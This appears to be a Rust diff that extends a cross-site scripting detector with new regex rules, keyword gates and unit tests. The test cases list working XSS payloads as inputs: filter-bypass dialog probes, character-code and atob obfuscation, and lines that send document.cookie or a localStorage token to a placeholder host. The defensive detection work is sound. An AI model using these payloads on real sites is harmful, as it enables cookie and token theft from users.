@@ -50,6 +50,14 @@ fn js_call(b: &[u8], s: usize, _e: usize) -> bool {
     in_sorted(JS_CALLS, word_before(b, s, &mut buf))
 }
 
+/// Gate for a dialog or `eval` named as a value, not called (`(alert)(1)`, `.map(alert)`,
+/// `onerror=alert;`): an opening parenthesis or `=` before it, a closing one, `;` or `,` after.
+fn dialog_as_value(b: &[u8], s: usize, e: usize) -> bool {
+    let before = b[..s].iter().rev().find(|c| !c.is_ascii_whitespace());
+    let after = b[e.min(b.len())..].iter().find(|c| !c.is_ascii_whitespace());
+    matches!(before, Some(b'(' | b'=')) && matches!(after, Some(b')' | b';' | b','))
+}
+
 /// Gate for `[`: indexing a global object (`top['al'+'ert']`, `self /*x*/ [`).
 fn js_global_index(b: &[u8], s: usize, _e: usize) -> bool {
     let mut buf = [0u8; 24];
@@ -146,6 +154,14 @@ impl Xss {
             // wrapped around a word. (A raw 0xBC byte is not UTF-8 and reads as U+FFFD, like any
             // Latin-1 letter, so only the characters themselves count.)
             ("\u{bc}/?[a-z][a-z0-9]*[^\u{bc}\u{be}<>]{0,100}\u{be}", High, 0.75, "US-ASCII encoded tag"),
+            // The cookie read into an expression, a document written, the page sent elsewhere, a
+            // string built from character codes, a global indexed by a call (`self[atob(..)]`):
+            // a page's script at work, which a sentence that names `document.cookie` is not.
+            (r#"document\s*\.\s*(?:cookie|domain)\s*[;+)\],]|[=+(,]\s*document\s*\.\s*(?:cookie|domain)\b|document\s*\.\s*write(?:ln)?\s*\(|(?:window|document|top|self|parent)\s*\.\s*location(?:\s*\.\s*href)?\s*=[^=]|\blocation\s*\.\s*href\s*=[^=]|\bstring\s*\.\s*fromcharcode\s*\(|\b(?:self|top|parent|frames|window|globalthis)\s*\[\s*[a-z_$][\w$]*\s*\(|[+=(,]\s*(?:localstorage|sessionstorage)\s*[.\[]"#, High, 0.7, "script reaching the DOM"),
+            // A dialog called through a global (`top.alert(1)`) or handed over as a value
+            // (`(alert)(1)`, `[1].map(alert)`, `onerror=alert;throw 1`): the probes of a filter
+            // bypass.
+            (r#"\b(?:window|self|top|parent|frames|globalthis|this)\s*\.\s*(?:alert|prompt|confirm|eval|execscript)\s*[(`]|\(\s*(?:alert|prompt|confirm|eval)\s*\)\s*[(`]|\.\s*(?:map|foreach|call|apply|then|find|filter|some|every)\s*\(\s*(?:alert|prompt|confirm|eval)\s*\)|\bon[a-z]+\s*=\s*(?:alert|prompt|confirm|eval)\s*[;,]"#, High, 0.75, "dialog reached through a global or passed as a value"),
         ];
         Ok(Xss { rules: Rules::new(Family::Xss, &table)?, strict_rules: Rules::new(Family::Xss, &strict)? })
     }
@@ -214,6 +230,12 @@ impl Check for Xss {
             gated("window", member_access),
             gated("location", member_access),
             lit("fromcharcode"),
+            gated("alert", dialog_as_value),
+            gated("prompt", dialog_as_value),
+            gated("confirm", dialog_as_value),
+            gated("eval", dialog_as_value),
+            lit("localstorage"),
+            lit("sessionstorage"),
             lit("constructor"),
             lit("innerhtml"),
             lit("outerhtml"),
@@ -246,6 +268,29 @@ impl Check for Xss {
 #[cfg(test)]
 mod tests {
     use super::super::testing::*;
+
+    #[test]
+    fn dialogs_through_globals_or_as_values() {
+        for v in ["top.alert(1)", "window.confirm`1`", "(alert)(1)", "[1].map(alert)", "onerror=alert;throw 1", "x='+localStorage.token"] {
+            assert!(flags("attack.xss", v), "{v}");
+        }
+        for v in ["(alert) notifications", "set alert = true", "confirm your email", "localStorage docs", "eval, test; deploy"] {
+            assert!(!flags("attack.xss", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn script_reaching_the_dom_outside_json_text() {
+        use crate::fields::Part;
+        for v in ["x'+document.cookie+'", "new Image().src='//e.example/?'+document.cookie", "document.write('<b>x</b>')", "window.location='//e.example'", "top.location.href = '//e.example'", "String.fromCharCode(88,83,83)", "self[atob('YWxlcnQ=')](1)"] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
+        }
+        for v in ["see the document.cookie policy page", "location.href docs", "window location", "self [note]"] {
+            assert!(!flags("attack.xss", v), "{v}");
+        }
+        assert!(!any_flag_in_json("Call document.write(html) only before the page loads"), "a code sample in a JSON text field");
+    }
 
     #[test]
     fn embedded_content_in_a_json_body_needs_script() {
